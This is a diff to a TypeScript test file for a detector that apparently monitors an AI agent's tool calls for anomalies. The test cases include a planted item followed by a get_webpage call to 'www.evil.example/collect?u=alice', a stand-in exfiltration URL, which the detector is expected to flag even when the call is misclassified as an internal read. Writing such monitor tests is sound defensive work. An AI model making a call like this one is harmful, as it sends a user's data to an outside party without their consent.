@@ -108,8 +108,12 @@ describe('clusters detector', () => {
     const outside = replay(rawDetector(), session('o', 'reply to alice', [planted, fetch('external_communication')])).filter((f) => f.callIndex === 1);
     expect(outside.map((f) => f.id).sort()).toEqual(['rare-action', 'unfamiliar-entity']);
     expect(outside.find((f) => f.id === 'unfamiliar-entity')?.message).toMatch(/get_webpage url = "www.evil.example\/collect\?u=alice": no training session mentioned this url/);
-    // The same call classed as an internal read is only a rare tool: its arguments are not tracked.
-    const internal = replay(rawDetector(), session('i', 'reply to alice', [planted, fetch('data_access')])).filter((f) => f.callIndex === 1);
+    // Classed as an internal read, it still goes where its URL says: the same evidence.
+    const misclassed = replay(rawDetector(), session('c', 'reply to alice', [planted, fetch('data_access')])).filter((f) => f.callIndex === 1);
+    expect(misclassed.map((f) => f.id).sort()).toEqual(['rare-action', 'unfamiliar-entity']);
+    // A read that only mentions the URL in a query is a read: a rare tool, its arguments not tracked.
+    const lookup: CallSpec = { tool: 'search_docs', category: 'data_access', args: { query: 'pages linking to www.evil.example/collect?u=alice' } };
+    const internal = replay(rawDetector(), session('i', 'reply to alice', [planted, lookup])).filter((f) => f.callIndex === 1);
     expect(internal.map((f) => f.id)).toEqual(['rare-tool']);
   });
 
